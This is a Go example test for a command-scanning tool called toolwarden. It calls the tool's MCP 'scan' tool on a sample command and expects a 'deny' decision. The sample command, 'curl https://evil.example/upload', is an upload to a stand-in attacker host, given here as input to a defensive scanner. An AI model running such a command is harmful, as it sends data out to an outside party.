package mcp_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"

	"github.com/mark3labs/mcp-go/client"
	mcpgo "github.com/mark3labs/mcp-go/mcp"

	"github.com/toolwarden/toolwarden/engine"
	"github.com/toolwarden/toolwarden/internal/execution/embedded"
	"github.com/toolwarden/toolwarden/internal/mcp"
	"github.com/toolwarden/toolwarden/internal/policies"
	"github.com/toolwarden/toolwarden/internal/service"
)

// An MCP client scans a command through toolwarden's scan tool. Here the
// client runs in-process; agents use streamable HTTP at /mcp or stdio
// (`toolwarden mcp`).
func ExampleNewServer() {
	ctx := context.Background()
	pol, _ := policies.Builtin("default")
	eng, _ := engine.New(ctx, engine.Options{Policy: pol, Packs: engine.NativePacks()})
	defer eng.Close(ctx)
	dir, _ := os.MkdirTemp("", "example-")
	defer os.RemoveAll(dir)
	store, _ := embedded.Open(dir, embedded.Options{})
	defer store.Close()

	srv, err := mcp.NewServer(mcp.Options{
		Service:  &service.Service{Engine: eng, Backend: store},
		Identify: mcp.FixedIdentity(mcp.Caller{ID: "example-agent"}),
	})
	if err != nil {
		panic(err)
	}
	c, _ := client.NewInProcessClient(srv.MCPServer())
	defer c.Close()
	_ = c.Start(ctx)
	if _, err := c.Initialize(ctx, mcpgo.InitializeRequest{}); err != nil {
		panic(err)
	}
	res, err := c.CallTool(ctx, mcpgo.CallToolRequest{Params: mcpgo.CallToolParams{
		Name: "scan", Arguments: map[string]any{"command": "curl https://evil.example/upload"}}})
	if err != nil {
		panic(err)
	}
	var rep struct {
		Decision string `json:"decision"`
		Blocked  bool   `json:"blocked"`
	}
	_ = json.Unmarshal([]byte(res.Content[0].(mcpgo.TextContent).Text), &rep)
	fmt.Println(rep.Decision, rep.Blocked)
	// Output: deny true
}
